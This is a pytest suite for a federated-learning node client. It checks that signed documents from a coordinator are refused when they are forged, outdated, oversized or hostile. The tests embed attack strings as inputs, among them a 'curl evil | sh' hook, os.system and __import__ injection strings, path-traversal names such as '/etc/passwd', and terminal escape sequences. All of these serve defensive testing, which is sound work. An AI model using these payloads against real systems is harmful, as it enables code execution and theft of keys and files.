"""What arrives is verified before it is believed: one test for each attack, named after it."""

import builtins
import json
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from concord_client import approvals, sync
from concord_client.home import NodeHome
from concord_client.policy import Policy, Rule
from concord_client.registry import add_dataset
from concord_client.sync import apply_updates, retry_refused, trust_organisation
from concord_shared.documents import (
    ModelFile,
    Participant,
    Release,
    Roster,
    RosterNode,
    RosterOrganisation,
    Terms,
    Withdrawal,
)
from concord_shared.errors import DocumentRefusedError, UsageError
from concord_shared.protocol import Update, Updates
from concord_shared.signing import Signature, fingerprint, new_identity_key, public_text, seal
from unit.client.fake_coordinator import (
    DAY,
    HOST,
    NODE,
    NOW,
    ORGANISATION,
    OTHER_NODE,
    REQUESTER,
    Authority,
    Partner,
    enrol_with,
    partner_in,
    write_table,
)


@dataclass
class Prepared:
    """An enrolled node's directory, copied for each test: keys take time to make."""

    partner: Partner


@pytest.fixture
def partner(tmp_path: Path) -> Iterator[Partner]:
    made = partner_in(tmp_path)
    yield made
    made.store.close()


def roster(partner: Partner, signer: Any = None, **changes: Any) -> Any:
    return seal(partner.coordinator.roster(**changes), signer or partner.coordinator.membership.key)


def rows(partner: Partner) -> list[RosterNode]:
    return list(partner.coordinator.roster().nodes)


# Roster


def test_roster_that_is_newer_is_taken(partner: Partner) -> None:
    assert partner.apply("roster", roster(partner, version=5)).accepted == [("roster", "5")]
    held = partner.store.roster()
    assert held is not None
    assert held.version == 5
    assert [each.id for each in partner.store.all("roster")] == ["1", "5"]  # every version is kept


def test_roster_refuses_another_signer(partner: Partner) -> None:
    assert "lacks the signature" in partner.refused("roster", roster(partner, new_identity_key(), version=2))


def test_roster_refuses_an_older_version(partner: Partner) -> None:
    partner.apply("roster", roster(partner, version=5))
    assert "older" in partner.refused("roster", roster(partner, version=4))


def test_roster_refuses_a_second_content_for_a_version(partner: Partner) -> None:
    assert "another" in partner.refused("roster", roster(partner, version=1, issued_at=NOW + 1))


def test_roster_refuses_other_keys_for_this_node(partner: Partner) -> None:
    own, other = rows(partner)
    stolen = own.model_copy(update={"identity_key": public_text(new_identity_key().public_key())})
    assert "other keys than it has" in partner.refused("roster", roster(partner, version=2, nodes=(stolen, other)))


def test_roster_refuses_a_name_twice(partner: Partner) -> None:
    assert "twice" in partner.refused("roster", roster(partner, version=2, nodes=(*rows(partner), rows(partner)[1])))


def test_changed_key_of_an_organisation_is_not_used_until_a_person_says_so(partner: Partner) -> None:
    old, new = partner.key(REQUESTER), new_identity_key()
    partner.coordinator.keys[REQUESTER] = new
    partner.apply("roster", roster(partner, version=2))
    assert "lacks the signature" in partner.refused("study", seal(partner.study(), new))
    reasons = [each.reason for each in partner.store.refused() if each.kind == "organisation-key"]
    assert len(reasons) == 1
    assert fingerprint(new.public_key()) in reasons[0]
    with pytest.raises(UsageError, match="Nothing was changed"):
        trust_organisation(partner.home, partner.store, REQUESTER, fingerprint(old.public_key()), NOW)
    applied = trust_organisation(partner.home, partner.store, REQUESTER, fingerprint(new.public_key()), NOW)
    assert applied.accepted == [("study", "heart")]  # what had been refused is believed now
    assert "lacks the signature" in partner.refused("study", seal(partner.study(issued_at=NOW + 1), old))


def test_changed_key_of_the_own_organisation_is_not_used_either(partner: Partner) -> None:
    partner.apply("study", seal(partner.study(), partner.key(REQUESTER)))
    partner.coordinator.keys[ORGANISATION] = new_identity_key()
    partner.apply("roster", roster(partner, version=2))
    assert "lacks the signature" in partner.refused("agreement", partner.agreed(partner.agreement()))


def test_roster_refuses_a_key_of_another_kind(partner: Partner) -> None:
    curve = public_text(partner.coordinator.membership.key.public_key())
    organisations = (RosterOrganisation(name="new", key=curve),)
    assert "not an Ed25519 key" in partner.refused("roster", roster(partner, version=2, organisations=organisations))


# Trust


def test_renewed_membership_key_is_taken_and_signs_from_then_on(partner: Partner) -> None:
    old = partner.coordinator.membership
    partner.coordinator.membership = partner.coordinator.root.authority(now=NOW + DAY)
    moved = partner.coordinator.trust | {"superlink": "moved.example:9443"}
    partner.apply("trust", moved, NOW + DAY)
    assert partner.home.membership_pem() == partner.coordinator.membership.pem
    assert partner.home.config.superlink == "moved.example:9443"
    assert "lacks the signature" in partner.refused("roster", roster(partner, old.key, version=2), NOW + DAY)
    assert partner.apply("roster", roster(partner, version=2), NOW + DAY).refused == []


def test_trust_refuses_a_membership_key_of_another_root(partner: Partner) -> None:
    partner.coordinator.root = Authority.root()
    partner.coordinator.membership = partner.coordinator.root.authority(now=NOW)
    before = partner.home.membership_pem()
    assert "not signed by the root" in partner.refused("trust", partner.coordinator.trust)
    assert partner.home.membership_pem() == before


def test_trust_refuses_an_older_membership_key(partner: Partner) -> None:
    partner.coordinator.membership = partner.coordinator.root.authority(now=NOW - DAY)
    assert "older" in partner.refused("trust", partner.coordinator.trust)


# Study, agreement, withdrawal


def test_study_refuses_the_signature_of_another_organisation(partner: Partner) -> None:
    assert "lacks the signature" in partner.refused("study", seal(partner.study(), partner.key(ORGANISATION)))


def test_study_refuses_to_be_taken_over(partner: Partner) -> None:
    partner.apply("study", seal(partner.study(), partner.key(REQUESTER)))
    own = partner.study(organisation=ORGANISATION, issued_at=NOW + 1)
    assert "belongs to charite" in partner.refused("study", seal(own, partner.key(ORGANISATION)))


def test_study_refuses_an_older_purpose(partner: Partner) -> None:
    partner.apply("study", seal(partner.study(issued_at=NOW + 5), partner.key(REQUESTER)))
    older = seal(partner.study(purpose="to sell hearts"), partner.key(REQUESTER))
    assert "newer version" in partner.refused("study", older)


def test_study_refuses_an_unknown_organisation(partner: Partner) -> None:
    key = new_identity_key()
    assert "no key of organisation evil" in partner.refused("study", seal(partner.study(organisation="evil"), key))


@pytest.mark.parametrize("signer", [ORGANISATION, REQUESTER])
def test_agreement_refuses_one_signature_of_two(partner: Partner, signer: str) -> None:
    partner.apply("study", seal(partner.study(), partner.key(REQUESTER)))
    assert "lacks the signature" in partner.refused("agreement", partner.agreed(partner.agreement(), signer))


def test_agreement_refuses_another_owner(partner: Partner) -> None:
    partner.apply("study", seal(partner.study(), partner.key(REQUESTER)))
    foreign = partner.agreement(owner=REQUESTER, requester=ORGANISATION)
    assert "only acme can open" in partner.refused("agreement", partner.agreed(foreign))


def test_agreement_refuses_to_be_about_other_nodes(partner: Partner) -> None:
    partner.apply("study", seal(partner.study(), partner.key(REQUESTER)))
    foreign = partner.agreement(datasets=("acme-10/patients",))
    assert "names no dataset of node acme-1" in partner.refused("agreement", partner.agreed(foreign))


def test_agreement_refuses_another_version_of_the_study(partner: Partner) -> None:
    partner.apply("study", seal(partner.study(purpose="another", issued_at=NOW + 1), partner.key(REQUESTER)))
    assert "another version of study" in partner.refused("agreement", partner.agreed(partner.agreement()))


def test_agreement_refuses_a_requester_outside_of_the_study(partner: Partner) -> None:
    study = partner.study(members=(ORGANISATION,), organisation=ORGANISATION)
    partner.apply("study", seal(study, partner.key(ORGANISATION)))
    assert "not a member" in partner.refused("agreement", partner.agreed(partner.agreement(study_digest=study.digest)))


def test_agreement_that_is_only_requested_admits_nothing(partner: Partner) -> None:
    partner.apply("study", seal(partner.study(), partner.key(REQUESTER)))
    body = partner.agreed(partner.agreement()) | {"state": "offered"}
    assert partner.apply("agreement", body).refused == []
    assert partner.store.admitting("heart", f"{NODE}/patients", NOW) is None


def test_agreement_refuses_its_looser_predecessor(partner: Partner) -> None:
    partner.apply("study", seal(partner.study(), partner.key(REQUESTER)))
    strict = Terms(not_after=NOW + DAY, rounds_max=1)
    partner.apply("agreement", partner.agreed(partner.agreement(terms=strict, issued_at=NOW + 5)))
    assert "newer version" in partner.refused("agreement", partner.agreed(partner.agreement()))


def test_agreement_ends_when_its_terms_say(partner: Partner) -> None:
    partner.ask()
    assert partner.store.admitting("heart", f"{NODE}/patients", NOW) is not None
    assert partner.store.admitting("heart", f"{NODE}/patients", NOW + 100 * DAY) is None


def test_agreement_ends_when_the_study_becomes_another(partner: Partner) -> None:
    partner.ask()
    partner.apply("study", seal(partner.study(purpose="to sell hearts", issued_at=NOW + 1), partner.key(REQUESTER)))
    assert partner.store.admitting("heart", f"{NODE}/patients", NOW) is None


def withdrawal(organisation: str = ORGANISATION) -> Withdrawal:
    return Withdrawal(agreement="heart-acme", organisation=organisation, issued_at=NOW)


def approve(partner: Partner) -> None:
    policy = Policy.load(partner.home.policy_file)
    question = approvals.questions(partner.home, partner.store, policy, NOW)[0]
    approvals.approve(partner.home, partner.store, policy, question, NOW)


def test_withdrawal_ends_the_agreement_and_what_was_approved_under_it(partner: Partner) -> None:
    partner.ask()
    approve(partner)
    partner.apply("withdrawal", seal(withdrawal(), partner.key(ORGANISATION)))
    about = ("heart", partner.plan.digest, "patients")
    assert partner.store.admitting("heart", f"{NODE}/patients", NOW) is None
    assert partner.store.current_approval(*about, NOW) is None
    assert partner.home.withdrawn_marker(*about).exists()
    assert "was withdrawn" in partner.refused("agreement", partner.agreed(partner.agreement()))


def test_withdrawal_refuses_anyone_but_the_owner(partner: Partner) -> None:
    partner.ask()
    assert "not the owner" in partner.refused("withdrawal", seal(withdrawal(REQUESTER), partner.key(REQUESTER)))
    assert "lacks the signature" in partner.refused("withdrawal", seal(withdrawal(), partner.key(REQUESTER)))
    assert partner.store.admitting("heart", f"{NODE}/patients", NOW) is not None


# Plan


def test_plan_is_held_by_the_digest_that_this_node_computes(partner: Partner) -> None:
    partner.ask()
    assert partner.store.plan(partner.plan.digest) == partner.plan
    assert [request.plan_digest for request in partner.store.requests()] == [partner.plan.digest]


def test_plan_refuses_own_code(partner: Partner) -> None:
    partner.ask()
    own = {"name": "own", "source": "import os; os.system('touch /tmp/owned')", "sha256": "0" * 64}
    document = partner.plan.document() | {"model": own}
    assert "runs only models that it has installed" in partner.refused(
        "plan", partner.request() | {"document": document}
    )


@pytest.mark.parametrize(
    "document",
    [
        {},
        {"schema": "concord/plan/2"},
        {"schema": "concord/plan/1", "name": "x"},
        {"schema": "concord/plan/1", "name": "__import__('os').system('true')"},
    ],
)
def test_plan_refuses_what_is_no_plan(partner: Partner, document: Any) -> None:
    partner.ask()
    partner.refused("plan", partner.request() | {"document": document})
    assert len(partner.store.all("plan")) == 1


def test_plan_refuses_an_unknown_key(partner: Partner) -> None:
    partner.ask()
    document = partner.plan.document() | {"hook": "curl evil | sh"}
    partner.refused("plan", partner.request() | {"document": document})


def test_plan_refuses_a_flood_of_bytes(partner: Partner) -> None:
    partner.ask()
    document = partner.plan.document() | {"padding": "x" * (2 << 20)}
    assert "at most" in partner.refused("plan", partner.request() | {"document": document})


def test_plan_refuses_a_requester_outside_of_the_study(partner: Partner) -> None:
    partner.ask()
    assert "not a member" in partner.refused("plan", partner.request(requested_by="stranger"))
    assert "not a member" in partner.refused("plan", partner.request(study="unheard-of"))


def test_hostile_plan_and_bundle_run_nothing(partner: Partner, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever arrives: no process is started, nothing is evaluated or imported by its name, no file is written."""
    partner.ask()
    before = sorted(path for path in partner.home.path.rglob("*") if path.is_file())
    modules = set(sys.modules)

    def never(*_: Any, **__: Any) -> Any:
        raise AssertionError("something that arrived was run")

    for name in ("eval", "exec", "compile"):
        monkeypatch.setattr(builtins, name, never)
    monkeypatch.setattr(subprocess, "Popen", never)
    monkeypatch.setattr("os.system", never)
    bundle = {"fab": "UEsDBBQAAAAI" * 1000, "path": "../../keys/identity.key", "module": "evil:run"}
    attacks = [
        ("plan", bundle),
        ("plan", partner.request() | {"document": bundle}),
        ("plan", partner.request() | {"document": partner.plan.document() | {"model": {"name": "evil.module:build"}}}),
        ("release", bundle),
        ("manifest", bundle),
        ("trust", bundle),
        ("roster", {"payload_type": "x", "payload": "gASVLQAAAAAAAACMBXBvc2l4", "signatures": []}),
        ("run", {"run": "../../keys", "state": "succeeded", "reason": ""}),
    ]
    for kind, body in attacks:
        partner.refused(kind, body)
    monkeypatch.undo()
    assert sorted(path for path in partner.home.path.rglob("*") if path.is_file()) == before
    assert not {name for name in set(sys.modules) - modules if "evil" in name}


# Manifest


def manifest(partner: Partner, signer: str = REQUESTER, **changes: Any) -> Any:
    return seal(partner.manifest(**changes), partner.key(signer))


def test_manifest_is_taken_once_and_again_the_same(partner: Partner) -> None:
    partner.ask()
    envelope = manifest(partner)
    assert partner.apply("manifest", envelope).refused == []
    assert partner.apply("manifest", envelope).refused == []
    assert partner.store.manifest("run-1") == partner.manifest()


def test_manifest_refuses_a_second_one_for_a_run(partner: Partner) -> None:
    partner.ask()
    partner.apply("manifest", manifest(partner))
    assert "another manifest already" in partner.refused("manifest", manifest(partner, nonce="1" * 64))


def test_manifest_refuses_another_signer(partner: Partner) -> None:
    partner.ask()
    assert "lacks the signature" in partner.refused("manifest", manifest(partner, ORGANISATION))


def test_manifest_refuses_a_stranger_to_the_study(partner: Partner) -> None:
    partner.coordinator.keys["stranger"] = new_identity_key()
    partner.apply("roster", roster(partner, version=2))
    partner.ask()
    assert "not a member" in partner.refused("manifest", manifest(partner, "stranger", organisation="stranger"))


def test_manifest_refuses_a_plan_that_was_never_asked(partner: Partner) -> None:
    partner.ask()
    assert "was not asked for" in partner.refused("manifest", manifest(partner, plan_digest="0" * 64))


def test_manifest_refuses_a_run_without_this_node(partner: Partner) -> None:
    partner.ask()
    others = partner.manifest().participants[1:]
    assert "does not name acme/acme-1" in partner.refused("manifest", manifest(partner, participants=others))


def test_manifest_refuses_a_node_twice(partner: Partner) -> None:
    partner.ask()
    twice = (*partner.manifest().participants, partner.manifest().participants[1])
    assert "twice" in partner.refused("manifest", manifest(partner, participants=twice))


def test_manifest_refuses_a_cohort_of_nobody(partner: Partner) -> None:
    """Nodes that the roster does not have would make up for a minimum cohort."""
    partner.ask()
    ghost = Participant(node="ghost", organisation=REQUESTER, dataset="x", dataset_version="0" * 64)
    participants = (*partner.manifest().participants, ghost)
    assert "ghost" in partner.refused("manifest", manifest(partner, participants=participants))


def test_manifest_refuses_a_revoked_participant(partner: Partner) -> None:
    own, other = rows(partner)
    revoked = other.model_copy(update={"state": "revoked"})
    partner.apply("roster", roster(partner, version=2, nodes=(own, revoked)))
    partner.ask()
    assert OTHER_NODE in partner.refused("manifest", manifest(partner))


def test_manifest_refuses_another_version_of_the_dataset(partner: Partner) -> None:
    partner.ask()
    own, other = partner.manifest().participants
    stale = own.model_copy(update={"dataset_version": "0" * 64})
    assert "registered is" in partner.refused("manifest", manifest(partner, participants=(stale, other)))


def test_manifest_refuses_an_unregistered_dataset_until_it_is_registered(partner: Partner, tmp_path: Path) -> None:
    partner.ask()
    table = write_table(tmp_path / "more.csv", 30)
    dataset = add_dataset(partner.store, "more", f"csv:{table}", NOW)
    own, other = partner.manifest().participants
    own = own.model_copy(update={"dataset": "more", "dataset_version": dataset.version})
    envelope = manifest(partner, participants=(own, other))
    partner.store.remove_dataset("more")
    assert "not registered here" in partner.refused("manifest", envelope)
    add_dataset(partner.store, "more", f"csv:{table}", NOW)
    assert retry_refused(partner.home, partner.store, NOW).accepted == [("manifest", "run-1")]
    assert partner.store.refused() == []


def test_manifest_refuses_one_that_has_expired(partner: Partner) -> None:
    partner.ask()
    assert "expired" in partner.refused("manifest", manifest(partner), NOW + 2 * DAY)


# Release, run


def release(partner: Partner, **changes: Any) -> Release:
    fields: dict[str, Any] = {
        "model_digest": "a" * 64,
        "plan_digest": partner.plan.digest,
        "study": "heart",
        "run": "run-1",
        "organisation": REQUESTER,
        "files": (ModelFile(name="model.safetensors", sha256="b" * 64, size=10),),
        "metrics": {"accuracy": "0.9"},
        "issued_at": NOW,
    }
    return Release(**fields | changes)


def test_release_is_taken(partner: Partner) -> None:
    partner.ask()
    partner.apply("manifest", manifest(partner))
    partner.apply("release", seal(release(partner), partner.key(REQUESTER)))
    assert partner.store.release("a" * 64) == release(partner)


def test_release_refuses_another_signer(partner: Partner) -> None:
    partner.ask()
    assert "lacks the signature" in partner.refused("release", seal(release(partner), partner.key(ORGANISATION)))


def test_release_refuses_one_who_did_not_start_the_run(partner: Partner) -> None:
    partner.ask()
    partner.apply("manifest", manifest(partner))
    foreign = release(partner, organisation=ORGANISATION)
    assert "does not fit the manifest" in partner.refused("release", seal(foreign, partner.key(ORGANISATION)))


@pytest.mark.parametrize("name", ["../keys/tls.key", "/etc/passwd", "a/b", "..", ".hidden", "", "a\0b", "a\\b"])
def test_release_refuses_a_file_that_could_lie_elsewhere(partner: Partner, name: str) -> None:
    partner.ask()
    hostile = release(partner, files=(ModelFile(name=name, sha256="b" * 64, size=10),))
    assert "outside" in partner.refused("release", seal(hostile, partner.key(REQUESTER)))


def test_run_of_which_no_manifest_is_held_is_refused(partner: Partner) -> None:
    assert "no manifest" in partner.refused("run", {"run": "run-1", "state": "running", "reason": ""})


def test_run_state_is_for_reading_and_cannot_steer_a_terminal(partner: Partner) -> None:
    partner.ask()
    partner.apply("manifest", manifest(partner))
    partner.apply("run", {"run": "run-1", "state": "failed", "reason": "\x1b[2Jgone"})
    stored = partner.store.get("run", "run-1")
    assert stored is not None
    assert stored.state == "failed"
    assert "\x1b" not in stored.body["reason"]


# The batch


def test_what_is_refused_does_not_stop_what_follows(partner: Partner) -> None:
    bodies: list[tuple[str, Any]] = [
        ("plan", {"nonsense": True}),
        ("study", seal(partner.study(), partner.key(REQUESTER)).model_dump(mode="json")),
    ]
    updates = tuple(
        Update(sequence=number, kind=kind, body=body)  # type: ignore[arg-type]
        for number, (kind, body) in enumerate(bodies, 1)
    )
    batch = Updates(updates=updates, cursor=2, state="suspended", now=NOW)
    applied = apply_updates(partner.home, partner.store, batch, NOW)
    assert applied.accepted == [("study", "heart")]
    assert [kind for kind, _, _ in applied.refused] == ["plan"]
    assert partner.store.cursor == 2
    assert partner.store.fact("state") == "suspended"
    assert [each.kind for each in partner.store.refused()] == ["plan"]


def test_update_that_comes_again_is_passed_over(partner: Partner) -> None:
    partner.ask()
    old = Update(sequence=1, kind="plan", body={"nonsense": True})
    batch = Updates(updates=(old,), cursor=3, state="active", now=NOW)
    assert apply_updates(partner.home, partner.store, batch, NOW).refused == []


def test_what_lacked_something_is_believed_once_that_came(partner: Partner) -> None:
    assert "another version" in partner.refused("agreement", partner.agreed(partner.agreement()))
    applied = partner.apply("study", seal(partner.study(), partner.key(REQUESTER)))
    assert ("agreement", "heart-acme") in applied.accepted
    assert partner.store.refused() == []


def test_deeply_nested_body_is_refused(partner: Partner) -> None:
    nested: Any = {}
    for _ in range(400):
        nested = {"a": nested}
    partner.ask()
    partner.refused("plan", partner.request() | {"document": nested})
    json.dumps([each.reason for each in partner.store.refused()])


# A coordinator that means harm: numbers that hide, texts and documents that fill


def test_settings_refuse_a_text_that_would_close_the_home_for_good(partner: Partner) -> None:
    for superlink in (f"{'x' * (1 << 20)}:9443", f"{'x' * 296}:9443", "host\x1b[2K:9443"):
        partner.refused("trust", partner.coordinator.trust | {"superlink": superlink})
    partner.refused("trust", partner.coordinator.trust | {"root_certificate": "x" * (1 << 20)})
    again = NodeHome.open(partner.home.path)
    assert again.config.superlink == f"{HOST}:9443"


def test_cursor_passes_nothing_that_did_not_come(partner: Partner) -> None:
    partner.apply("study", seal(partner.study(), partner.key(REQUESTER)))
    empty = Updates(updates=(), cursor=(1 << 53) - 1, state="active", now=NOW)
    apply_updates(partner.home, partner.store, empty, NOW)
    assert partner.store.cursor == 1


def test_sequence_cannot_hide_what_comes_after_it(partner: Partner) -> None:
    partner.ask()
    approve(partner)
    before = partner.store.cursor
    end = seal(withdrawal(), partner.key(ORGANISATION)).model_dump(mode="json")
    far = Update(sequence=(1 << 53) - 1, kind="run", body={})
    batch = Updates(updates=(far,), cursor=far.sequence, state="active", now=NOW)
    for _ in range(2):
        assert "would hide" in apply_updates(partner.home, partner.store, batch, NOW).refused[0][2]
    assert partner.store.cursor == before
    assert [each.kind for each in partner.store.refused()] == ["updates"]  # noted once, for people
    partner.apply("withdrawal", end)
    assert partner.store.current_approval("heart", partner.plan.digest, "patients", NOW) is None


def test_enrolling_again_hears_everything_again(partner: Partner) -> None:
    partner.store.cursor = (1 << 53) - 1
    partner.coordinator.token_used = False
    home = enrol_with(partner.coordinator, partner.home.path).home
    with home.store() as store:
        assert store.cursor == 0


@pytest.mark.parametrize("version", [(1 << 20) + 2, (1 << 63) - 1])
def test_roster_refuses_a_version_that_makes_every_later_one_old(partner: Partner, version: int) -> None:
    assert "enrol again" in partner.refused("roster", roster(partner, version=version))
    assert partner.apply("roster", roster(partner, version=2)).refused == []


def test_roster_refuses_a_version_of_thousands_of_digits(partner: Partner) -> None:
    huge = partner.coordinator.roster().model_copy(update={"version": 10**4000})
    partner.refused("roster", seal(huge, partner.coordinator.membership.key))
    with pytest.raises(DocumentRefusedError):  # also where none is held yet
        Roster.from_canonical(huge.canonical)


def test_documents_fill_no_disk(partner: Partner, monkeypatch: pytest.MonkeyPatch) -> None:
    """By number or by bytes, each kind by itself; what is held may become newer."""
    partner.ask()

    def study(name: str, **changes: Any) -> Any:
        return seal(partner.study(study=name, **changes), partner.key(REQUESTER))

    monkeypatch.setattr(sync, "DOCUMENTS_MAX", 3)
    for name in ("two", "three"):
        assert partner.apply("study", study(name)).refused == []
    assert "no room for one more study: this node holds 3" in partner.refused("study", study("four"))
    assert partner.apply("study", study("three", issued_at=NOW + 1)).refused == []
    monkeypatch.setattr(sync, "DOCUMENTS_BYTES_MAX", 5000)
    longer = study("two", purpose="x" * 4000, issued_at=NOW + 1)
    assert "no room" in partner.refused("study", longer)  # small ones first, large ones in their place
    assert partner.apply("manifest", manifest(partner)).refused == []
    monkeypatch.setattr(sync, "DOCUMENTS_MAX", 1)
    for kind, body in (
        ("manifest", manifest(partner, run="run-2")),
        ("plan", partner.request(partner.plan.with_seed(1))),
    ):
        assert f"no room for one more {kind}" in partner.refused(kind, body)
    monkeypatch.setattr(sync, "DOCUMENTS_MAX", 0)
    assert "no room for one more release" in partner.refused("release", seal(release(partner), partner.key(REQUESTER)))


def test_signatures_nobody_asked_for_fill_no_disk(partner: Partner) -> None:
    envelope = seal(partner.study(), partner.key(REQUESTER))
    padded = Signature(key="x", signature="x" * sync.ENVELOPE_BYTES_MAX)
    padding = envelope.model_copy(update={"signatures": (*envelope.signatures, padded)})
    assert "bytes, this one" in partner.refused("study", padding)


def test_organisations_fill_no_disk(partner: Partner, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sync, "KEYS_MAX", 3)
    key = public_text(new_identity_key().public_key())
    named = tuple(RosterOrganisation(name=name, key=key) for name in ("one", "two"))
    assert "brings 2 organisations" in partner.refused("roster", roster(partner, version=2, organisations=named))
    assert partner.store.organisation_key("one") is None
    assert partner.apply("roster", roster(partner, version=2, organisations=named[:1])).refused == []


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"model": {"name": "mlp", "hidden": [65536, 65536]}}, "parameters_max"),
        ({"data": {"classes": [str(label) for label in range(30_000)]}}, "metrics_max"),
    ],
)
def test_plan_refuses_what_no_machine_holds(partner: Partner, changes: Any, words: str) -> None:
    partner.ask()
    document = partner.plan.document()
    changed = {key: document[key] | values for key, values in changes.items()}
    changed["model"] = changes.get("model", document["model"])
    assert words in partner.refused("plan", partner.request() | {"document": document | changed})


# Who asks: by their signatures, whatever the coordinator says


def asked_by(partner: Partner) -> tuple[str, bool]:
    """Who is shown, and whether the rule for the requester approves."""
    policy = Policy(approvals={"automatic": (Rule(requester=REQUESTER),)})
    question = approvals.questions(partner.home, partner.store, policy, NOW)[0]
    return question.requested_by, question.verdict.automatic


def test_requester_is_who_signed_the_agreement(partner: Partner) -> None:
    """The coordinator says that the plan is of whoever the rule names; nobody of that name signed anything."""
    foreign = partner.study(organisation="lab", members=(REQUESTER, ORGANISATION))
    partner.coordinator.keys["lab"] = new_identity_key()
    partner.apply("roster", roster(partner, version=2))
    partner.apply("study", seal(foreign, partner.key("lab")))
    agreement = partner.agreement(requester="lab", study_digest=foreign.digest)
    partner.apply("agreement", partner.agreed(agreement, ORGANISATION, "lab"))
    assert partner.apply("plan", partner.request(requested_by=REQUESTER)).refused == []
    assert asked_by(partner) == ("lab", False)


def test_requester_is_also_who_signed_the_manifest(partner: Partner) -> None:
    partner.ask()
    assert asked_by(partner) == (REQUESTER, True)
    assert partner.apply("manifest", manifest(partner)).refused == []
    assert asked_by(partner) == (REQUESTER, True)
    other = manifest(partner, ORGANISATION, organisation=ORGANISATION, run="run-2")
    assert partner.apply("manifest", other).refused == []
    assert asked_by(partner) == (f"{ORGANISATION}, {REQUESTER}", False)
